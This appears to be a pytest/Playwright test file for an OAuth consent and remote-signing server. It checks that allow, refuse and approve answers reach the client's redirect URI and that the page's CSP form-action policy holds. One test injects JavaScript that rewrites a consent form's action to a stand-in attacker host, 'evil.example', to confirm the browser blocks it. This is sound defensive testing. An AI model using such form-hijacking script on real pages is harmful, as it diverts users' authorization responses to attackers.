"""Every answer of a person reaches the program, in a real browser. (CSP 3 4.2.4; RFC 8252; J8.1)

Chromium holds a page's ``form-action`` against every redirect that its forms' answers lead to.
"""

from __future__ import annotations

import asyncio
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import aiohttp
import pytest
from playwright.async_api import expect

from tests.csc_server.oauth import clients
from tests.csc_server.oauth.chromium import Window
from tests.csc_server.oauth.conftest import World
from tests.csc_server.oauth.driver import Program, url_hash
from tests.service import PIN

pytestmark = pytest.mark.asyncio(loop_scope="module")


def signatures(world: World, name: str) -> dict[str, Any]:
    """What a program adds to ask for Alice's signature of one hash."""
    return {
        "scope": "credential",
        "credentialID": world.people["alice"].credentials["pin"],
        "numSignatures": "1",
        "hash": url_hash(name),
    }


async def approve(window: Window) -> None:
    """With the PIN."""
    await window.page.get_by_label("PIN of the certificate").fill(PIN)
    await window.press("Approve and sign one")


@pytest.mark.parametrize("kind", ["https", "127.0.0.1", "[::1]"])
async def test_every_answer_arrives(
    window: Window, world: World, wire: aiohttp.ClientSession, kind: str
) -> None:
    """*Allow*, *Refuse*, *Approve* and *Refuse* again: on another origin, with code or error."""
    # Nobody else lets this one in, and a program on the person's own machine always asks.
    program, allow = Program(wire, world.issuer, "stranger", version=1), "Allow"
    if kind != "https":
        program.client_id, allow = "desk", "Activate"
        program.redirect_uri = f"http://{kind}:{window.sites.loopback[kind]}/done"
    await window.enter(world.keys["alice"])
    await window.ask(1, program.request(scope="account"))
    await window.press("Refuse")
    refused = await window.landed(program.redirect_uri)
    assert (refused["error"], refused["state"]) == ("access_denied", "xyz")
    await window.ask(1, program.request(scope="account"))
    await window.press(allow)
    allowed = await window.landed(program.redirect_uri)
    assert (await program.redeem(allowed["code"])).status == 200
    await window.ask(1, program.request(**signatures(world, "a")))
    await window.press("Refuse")
    assert (await window.landed(program.redirect_uri))["error"] == "access_denied"
    await window.ask(1, program.request(**signatures(world, "a")))
    await approve(window)
    approved = await window.landed(program.redirect_uri)
    assert (await program.redeem(approved["code"])).body["token_type"] == "SAD"
    assert len(window.sites.visits) == 4


async def test_no_answer_arrives_elsewhere(
    window: Window, world: World, wire: aiohttp.ClientSession
) -> None:
    """The policy of the page names the program's origin, and holds against any other."""
    await window.enter(world.keys["alice"])
    await window.ask(1, Program(wire, world.issuer).request(**signatures(world, "a")))
    stolen = """() => {
        const button = document.querySelector("button[value=refuse]");
        button.form.action = "https://evil.example/callback";
        button.click();
    }"""
    async with window.page.expect_console_message(lambda said: "form-action" in said.text):
        await window.page.evaluate(stolen)
    assert window.sites.visits == []


async def test_who_comes_back_signs_in_and_goes_on(
    window: Window, world: World, wire: aiohttp.ClientSession
) -> None:
    """Consent was given, nobody is signed in: the login leads to the program by itself. (J1.5)"""
    program = Program(wire, world.issuer, client_id="house")
    await window.ask(2, program.request())
    await window.sign_in(world.people["alice"])
    answer = await window.landed(program.redirect_uri)
    assert (await program.redeem(answer["code"])).status == 200
    await window.page.go_back()
    await window.heading("This request is over")


@pytest.mark.parametrize("host", ["127.0.0.1", "[::1]"])
async def test_an_agent_on_the_person_s_machine(
    window: Window, world: World, wire: aiohttp.ClientSession, host: str
) -> None:
    """Any port, consent each time, and a page that says so where it has none of its own. (J8.1)"""
    callback = f"http://{host}:{window.sites.loopback[host]}/done"
    agent = Program(wire, world.issuer, "desk", redirect_uri=callback)
    window.sites.onward = f"{world.issuer}/signed-in"
    await window.ask(2, agent.request())
    await expect(window.page.get_by_text("To go on to Desk.")).to_be_visible()
    await window.sign_in(world.people["alice"])
    await window.heading("Activate Desk")
    await window.press("Activate")
    await window.page.wait_for_url(window.sites.onward)
    await window.heading("Sign-in succeeded")
    assert window.blocked == []
    [visit] = window.sites.visits
    assert visit.partition("?")[0] == callback
    code = dict(parse_qsl(urlsplit(visit).query))["code"]
    assert (await agent.redeem(code)).status == 200
    await window.ask(2, agent.request())
    await window.heading("Activate Desk")
    # Nothing of it is new, and all of it is told.
    await expect(
        window.page.get_by_role("heading", name="What it gets", exact=True)
    ).to_be_visible()
    await expect(window.page.get_by_text("list your certificates")).to_be_visible()


@pytest.mark.parametrize("answer", ["allow", "refuse", "approve"])
async def test_a_scheme_of_its_own(
    window: Window, world: World, wire: aiohttp.ClientSession, answer: str
) -> None:
    """The program is called, and the browser, which stays, shows what became of it. (J8.1)"""
    program = Program(wire, world.issuer, "desk", redirect_uri=clients.PRIVATE)
    called = await window.calls_of(clients.PRIVATE)
    await window.enter(world.keys["alice"])
    more = signatures(world, "a") if answer == "approve" else {"scope": "service"}
    await window.ask(1, program.request(**more))
    if answer == "approve":
        await approve(window)
        await window.heading("Approval given")
    elif answer == "allow":
        await window.heading("Activate Desk")
        await window.press("Activate")
        await window.heading("Sign-in succeeded")
    else:
        await window.press("Refuse")
        await window.heading("You refused")
    link = window.page.get_by_role("link", name="Go on to Desk")
    address = await link.get_attribute("href")
    assert address is not None
    assert address.startswith(f"{clients.PRIVATE}?")
    await expect(link).to_be_visible()
    assert await asyncio.wait_for(called, 10) == address
    assert window.blocked == []
